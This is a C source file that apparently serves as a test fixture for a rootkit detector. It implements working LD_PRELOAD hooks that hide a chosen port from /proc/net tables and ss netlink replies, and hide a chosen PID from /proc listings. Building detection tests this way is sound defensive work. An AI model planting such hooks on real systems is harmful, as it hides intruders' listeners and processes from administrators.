/*
 * hideport.c: a test fixture that hides a port the way LD_PRELOAD rootkits
 * do (libprocesshider, Azazel, Jynx2 and kin). Loaded into a dynamically
 * linked program, it filters what that program reads from the kernel:
 *
 *   HIDE_PORT=N  every TCP and UDP socket, IPv4 and IPv6, whose LOCAL port
 *                is N disappears from
 *                - /proc/net/{tcp,tcp6,udp,udp6}, however the file is reached
 *                  (/proc/net/tcp, /proc/self/net/tcp, /proc/PID/net/tcp, or
 *                  "net/tcp" relative to a descriptor of /proc), when read
 *                  with read(2);
 *                - NETLINK_SOCK_DIAG (inet_diag) replies received with recv,
 *                  recvfrom or recvmsg (one iovec), which is what ss uses.
 *   HIDE_PROTO=tcp|udp, HIDE_FAMILY=ipv4|ipv6
 *                optional: narrow HIDE_PORT to that protocol and family, so
 *                a neighbour on the same port number (a TIME_WAIT, a UDP
 *                socket beside a TCP one) stays visible. sock_diag replies
 *                do not name their protocol: it is taken from the request
 *                with the same sequence number on the same descriptor,
 *                seen by send, sendto or sendmsg.
 *   HIDE_PID=P   optional: "P" disappears from readdir()/readdir64() of the
 *                /proc root directory (the list of processes).
 *
 * The kernel is untouched: bind(2) on the port still fails, a connect still
 * succeeds, and /proc/P/fd still shows the socket. Those are the views a
 * cross-view check compares with. Test use only.
 *
 * Build: cc -shared -fPIC -O2 -o hideport.so hideport.c -ldl
 */
#define _GNU_SOURCE
#undef _FORTIFY_SOURCE /* fortify turns open/read/recv into inline wrappers */
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/types.h>
#include <arpa/inet.h>
#include <unistd.h>

#define PROC_SUPER_MAGIC 0x9fa0
#define PROC_ROOT_INO 1
/* Descriptors at or above this are never filtered (plenty for a test). */
#define MAX_FD 4096

/* ---- configuration, read once ---------------------------------------- */

static pthread_once_t once = PTHREAD_ONCE_INIT;
static int hide_port = -1;  /* host byte order; -1: hide no port */
static char hide_pid[16];   /* decimal; "": hide no process */
static int hide_proto = -1; /* IPPROTO_TCP or IPPROTO_UDP; -1: both */
static int hide_family = -1; /* AF_INET or AF_INET6; -1: both */

static int (*real_open)(const char *, int, ...);
static int (*real_open64)(const char *, int, ...);
static int (*real_openat)(int, const char *, int, ...);
static int (*real_openat64)(int, const char *, int, ...);
static ssize_t (*real_read)(int, void *, size_t);
static int (*real_close)(int);
static ssize_t (*real_recv)(int, void *, size_t, int);
static ssize_t (*real_recvfrom)(int, void *, size_t, int, struct sockaddr *, socklen_t *);
static ssize_t (*real_recvmsg)(int, struct msghdr *, int);
static ssize_t (*real_send)(int, const void *, size_t, int);
static ssize_t (*real_sendto)(int, const void *, size_t, int, const struct sockaddr *, socklen_t);
static ssize_t (*real_sendmsg)(int, const struct msghdr *, int);
static struct dirent *(*real_readdir)(DIR *);
static struct dirent64 *(*real_readdir64)(DIR *);

static void init(void) {
    /* dlsym returns void *; going through memcpy keeps -Wpedantic quiet too. */
#define NEXT(name) do { void *p = dlsym(RTLD_NEXT, #name); memcpy(&real_##name, &p, sizeof p); } while (0)
    NEXT(open); NEXT(open64); NEXT(openat); NEXT(openat64); NEXT(read); NEXT(close);
    NEXT(recv); NEXT(recvfrom); NEXT(recvmsg); NEXT(readdir); NEXT(readdir64);
    NEXT(send); NEXT(sendto); NEXT(sendmsg);
#undef NEXT
    const char *port = getenv("HIDE_PORT");
    if (port && *port) {
        char *end;
        long value = strtol(port, &end, 10);
        if (*end == 0 && value > 0 && value < 65536) hide_port = (int)value;
    }
    const char *proto = getenv("HIDE_PROTO");
    if (proto && !strcmp(proto, "tcp")) hide_proto = IPPROTO_TCP;
    if (proto && !strcmp(proto, "udp")) hide_proto = IPPROTO_UDP;
    const char *family = getenv("HIDE_FAMILY");
    if (family && !strcmp(family, "ipv4")) hide_family = AF_INET;
    if (family && !strcmp(family, "ipv6")) hide_family = AF_INET6;
    const char *pid = getenv("HIDE_PID");
    if (pid && *pid && strlen(pid) < sizeof hide_pid) strcpy(hide_pid, pid);
}

#define INIT() pthread_once(&once, init)

/* ---- /proc/net/{tcp,tcp6,udp,udp6}: serve a filtered copy ------------- */

/* A filtered copy of one opened table, served by read() until close(). */
struct copy {
    char *data;
    size_t length, offset;
};
static struct copy *copies[MAX_FD];

/* Whether `path` (as passed to open) could name an inet table: its last
 * component is tcp, tcp6, udp or udp6. Cheap, so other opens stay fast. */
static int table_name(const char *path) {
    const char *slash = strrchr(path, '/');
    const char *base = slash ? slash + 1 : path;
    return !strcmp(base, "tcp") || !strcmp(base, "tcp6") || !strcmp(base, "udp") || !strcmp(base, "udp6");
}

/* Whether open descriptor `fd` is /proc/.../net/<table>: resolves what was
 * opened through /proc/self/fd, so relative paths and dirfds are covered. */
/* Whether the table named `base` (tcp, tcp6, udp, udp6) holds the hidden
 * protocol and family. */
static int table_selected(const char *base) {
    int udp = base[0] == 'u', six = base[3] == '6';
    if (hide_proto >= 0 && hide_proto != (udp ? IPPROTO_UDP : IPPROTO_TCP)) return 0;
    if (hide_family >= 0 && hide_family != (six ? AF_INET6 : AF_INET)) return 0;
    return 1;
}

static int is_table(int fd) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n <= 0) return 0;
    target[n] = 0;
    if (strncmp(target, "/proc/", 6) != 0) return 0;
    const char *net = strstr(target, "/net/");
    return net && table_name(net + 5) && !strchr(net + 5, '/') && table_selected(net + 5);
}

/* The local port of one table row ("  sl: ADDR:PORT REMOTE ..."), or -1. */
static int row_port(const char *line, const char *end) {
    const char *p = line;
    while (p < end && *p == ' ') p++;
    while (p < end && *p != ' ') p++;   /* "sl:" */
    while (p < end && *p == ' ') p++;
    const char *colon = NULL;
    for (; p < end && *p != ' '; p++)
        if (*p == ':') colon = p;
    if (!colon || p - colon != 5) return -1;
    char hex[5] = {colon[1], colon[2], colon[3], colon[4], 0};
    char *stop;
    long port = strtol(hex, &stop, 16);
    return *stop ? -1 : (int)port;
}

/* Reads the whole table from `fd` and keeps the rows not on hide_port. */
static void remember(int fd) {
    if (fd < 0 || fd >= MAX_FD || hide_port < 0 || !is_table(fd)) return;
    size_t capacity = 65536, used = 0;
    char *data = malloc(capacity);
    if (!data) return;
    for (;;) {
        if (used == capacity) {
            char *bigger = realloc(data, capacity *= 2);
            if (!bigger) { free(data); return; }
            data = bigger;
        }
        ssize_t n = real_read(fd, data + used, capacity - used);
        if (n < 0) { free(data); return; }
        if (n == 0) break;
        used += (size_t)n;
    }
    /* Compact in place: the header (first line) stays, hidden rows go. */
    size_t kept = 0;
    int header = 1;
    for (size_t start = 0; start < used;) {
        char *newline = memchr(data + start, '\n', used - start);
        size_t end = newline ? (size_t)(newline - data) + 1 : used;
        if (header || row_port(data + start, data + end) != hide_port) {
            memmove(data + kept, data + start, end - start);
            kept += end - start;
        }
        header = 0;
        start = end;
    }
    struct copy *c = malloc(sizeof *c);
    if (!c) { free(data); return; }
    *c = (struct copy){data, kept, 0};
    /* A stale entry (descriptor closed behind our back) is replaced. */
    struct copy *old = __atomic_exchange_n(&copies[fd], c, __ATOMIC_ACQ_REL);
    if (old) { free(old->data); free(old); }
}

static int opened(int fd, const char *path) {
    if (fd >= 0 && table_name(path)) remember(fd);
    return fd;
}

/* open's mode argument is only there with O_CREAT or O_TMPFILE. */
#define MODE(flags, last) \
    mode_t mode = 0; \
    if ((flags) & (O_CREAT | O_TMPFILE)) { va_list ap; va_start(ap, last); mode = va_arg(ap, mode_t); va_end(ap); }

int open(const char *path, int flags, ...) {
    INIT(); MODE(flags, flags);
    return opened(real_open(path, flags, mode), path);
}
int open64(const char *path, int flags, ...) {
    INIT(); MODE(flags, flags);
    return opened(real_open64(path, flags, mode), path);
}
int openat(int dirfd, const char *path, int flags, ...) {
    INIT(); MODE(flags, flags);
    return opened(real_openat(dirfd, path, flags, mode), path);
}
int openat64(int dirfd, const char *path, int flags, ...) {
    INIT(); MODE(flags, flags);
    return opened(real_openat64(dirfd, path, flags, mode), path);
}

ssize_t read(int fd, void *buffer, size_t count) {
    INIT();
    struct copy *c = fd >= 0 && fd < MAX_FD ? __atomic_load_n(&copies[fd], __ATOMIC_ACQUIRE) : NULL;
    if (!c) return real_read(fd, buffer, count);
    size_t n = c->length - c->offset < count ? c->length - c->offset : count;
    memcpy(buffer, c->data + c->offset, n);
    c->offset += n;
    return (ssize_t)n;
}

int close(int fd) {
    INIT();
    if (fd >= 0 && fd < MAX_FD) {
        struct copy *c = __atomic_exchange_n(&copies[fd], NULL, __ATOMIC_ACQ_REL);
        if (c) { free(c->data); free(c); }
    }
    return real_close(fd);
}

/* ---- NETLINK_SOCK_DIAG replies ---------------------------------------- */

/* The protocol of recent sock_diag dump requests, by descriptor and
 * sequence number: replies carry the sequence but not the protocol. */
#define REQUESTS 256
static struct request { int fd; uint32_t seq; int protocol; } requests[REQUESTS];
static unsigned next_request;
static pthread_mutex_t requests_lock = PTHREAD_MUTEX_INITIALIZER;

/* Records the inet_diag requests among `length` bytes of netlink messages. */
static void note_requests(int fd, const char *buffer, size_t length) {
    size_t offset = 0;
    while (length - offset >= NLMSG_HDRLEN) {
        const struct nlmsghdr *h = (const struct nlmsghdr *)(buffer + offset);
        /* A message may run on into a later buffer (ss's bytecode): its
         * request header must be here, not all of it. */
        if (h->nlmsg_len < NLMSG_HDRLEN) break;
        int protocol = -1;
        if (h->nlmsg_type == SOCK_DIAG_BY_FAMILY && length - offset >= NLMSG_LENGTH(sizeof(struct inet_diag_req_v2)))
            protocol = ((const struct inet_diag_req_v2 *)NLMSG_DATA(h))->sdiag_protocol;
        else if (h->nlmsg_type == TCPDIAG_GETSOCK)
            protocol = IPPROTO_TCP;
        if (protocol >= 0) {
            pthread_mutex_lock(&requests_lock);
            requests[next_request++ % REQUESTS] = (struct request){fd, h->nlmsg_seq, protocol};
            pthread_mutex_unlock(&requests_lock);
        }
        if (h->nlmsg_len >= length - offset) break;
        offset += NLMSG_ALIGN(h->nlmsg_len);
    }
}

/* The protocol asked for by the request a reply answers, or -1 when that
 * request was not seen. */
static int requested_protocol(int fd, uint32_t seq, int type) {
    if (type == TCPDIAG_GETSOCK) return IPPROTO_TCP;
    int protocol = -1;
    pthread_mutex_lock(&requests_lock);
    for (unsigned i = 0; i < REQUESTS; i++)
        if (requests[i].fd == fd && requests[i].seq == seq && requests[i].protocol) protocol = requests[i].protocol;
    pthread_mutex_unlock(&requests_lock);
    return protocol;
}

static int is_sock_diag(int fd) {
    int domain = 0, protocol = 0;
    socklen_t length = sizeof domain;
    if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &length) != 0 || domain != AF_NETLINK) return 0;
    length = sizeof protocol;
    return getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &protocol, &length) == 0 && protocol == NETLINK_SOCK_DIAG;
}

/* Drops the inet_diag messages of sockets on hide_port from `length` bytes
 * of netlink messages, moving the rest together; returns the new length. */
static size_t filter_diag(int fd, char *buffer, size_t length) {
    size_t kept = 0, offset = 0;
    while (length - offset >= NLMSG_HDRLEN) {
        struct nlmsghdr *h = (struct nlmsghdr *)(buffer + offset);
        if (h->nlmsg_len < NLMSG_HDRLEN || h->nlmsg_len > length - offset) break;
        size_t step = NLMSG_ALIGN(h->nlmsg_len) < length - offset ? NLMSG_ALIGN(h->nlmsg_len) : length - offset;
        /* SOCK_DIAG_BY_FAMILY, and the older TCPDIAG_GETSOCK/DCCPDIAG_GETSOCK replies. */
        int inet = h->nlmsg_type == SOCK_DIAG_BY_FAMILY || h->nlmsg_type == TCPDIAG_GETSOCK || h->nlmsg_type == DCCPDIAG_GETSOCK;
        int hide = 0;
        if (inet && h->nlmsg_len >= NLMSG_LENGTH(sizeof(struct inet_diag_msg))) {
            struct inet_diag_msg *m = NLMSG_DATA(h);
            hide = m->id.idiag_sport == htons((uint16_t)hide_port)
                && (hide_family < 0 || m->idiag_family == hide_family)
                && (hide_proto < 0 || requested_protocol(fd, h->nlmsg_seq, h->nlmsg_type) == hide_proto);
        }
        if (!hide) {
            memmove(buffer + kept, h, step);
            kept += step;
        }
        offset += step;
    }
    if (offset < length) {  /* a malformed tail: pass it on untouched */
        memmove(buffer + kept, buffer + offset, length - offset);
        kept += length - offset;
    }
    return kept;
}

/* Filters a completed receive of `n` bytes into `buffer` (size `size`) and
 * returns the new length. Peeks and truncated datagrams pass as they are. */
static ssize_t filtered(int fd, char *buffer, size_t size, ssize_t n, int flags) {
    if (n <= 0 || hide_port < 0 || (flags & MSG_PEEK) || (size_t)n > size || !is_sock_diag(fd)) return n;
    return (ssize_t)filter_diag(fd, buffer, (size_t)n);
}

ssize_t send(int fd, const void *buffer, size_t length, int flags) {
    INIT();
    if (hide_proto >= 0 && is_sock_diag(fd)) note_requests(fd, buffer, length);
    return real_send(fd, buffer, length, flags);
}

ssize_t sendto(int fd, const void *buffer, size_t length, int flags, const struct sockaddr *to, socklen_t toLength) {
    INIT();
    if (hide_proto >= 0 && is_sock_diag(fd)) note_requests(fd, buffer, length);
    return real_sendto(fd, buffer, length, flags, to, toLength);
}

/* The request header is in the first buffer (ss puts its filter bytecode in a second). */
ssize_t sendmsg(int fd, const struct msghdr *message, int flags) {
    INIT();
    if (hide_proto >= 0 && message->msg_iovlen >= 1 && is_sock_diag(fd))
        note_requests(fd, message->msg_iov[0].iov_base, message->msg_iov[0].iov_len);
    return real_sendmsg(fd, message, flags);
}

/* Each receive below repeats when every message of a datagram was hidden:
 * an empty datagram would look like the end of the conversation. */

ssize_t recv(int fd, void *buffer, size_t size, int flags) {
    INIT();
    for (;;) {
        ssize_t n = real_recv(fd, buffer, size, flags);
        ssize_t kept = filtered(fd, buffer, size, n, flags);
        if (kept != 0 || n <= 0) return kept;
    }
}

ssize_t recvfrom(int fd, void *buffer, size_t size, int flags, struct sockaddr *from, socklen_t *fromLength) {
    INIT();
    for (;;) {
        ssize_t n = real_recvfrom(fd, buffer, size, flags, from, fromLength);
        ssize_t kept = filtered(fd, buffer, size, n, flags);
        if (kept != 0 || n <= 0) return kept;
    }
}

/* Only single-buffer messages are filtered (ss and portcullis use one). */
ssize_t recvmsg(int fd, struct msghdr *message, int flags) {
    INIT();
    for (;;) {
        ssize_t n = real_recvmsg(fd, message, flags);
        if (message->msg_iovlen != 1 || (message->msg_flags & MSG_TRUNC)) return n;
        ssize_t kept = filtered(fd, message->msg_iov->iov_base, message->msg_iov->iov_len, n, flags);
        if (kept != 0 || n <= 0) return kept;
    }
}

/* ---- /proc directory listings ----------------------------------------- */

/* Whether the listing `d` is the root of a procfs (the process list). */
static int is_proc_root(DIR *d) {
    struct statfs fs;
    struct stat st;
    int fd = dirfd(d);
    return fd >= 0 && fstatfs(fd, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC
        && fstat(fd, &st) == 0 && st.st_ino == PROC_ROOT_INO;
}

struct dirent *readdir(DIR *d) {
    INIT();
    struct dirent *e;
    while ((e = real_readdir(d)) && hide_pid[0] && !strcmp(e->d_name, hide_pid) && is_proc_root(d)) {}
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    INIT();
    struct dirent64 *e;
    while ((e = real_readdir64(d)) && hide_pid[0] && !strcmp(e->d_name, hide_pid) && is_proc_root(d)) {}
    return e;
}
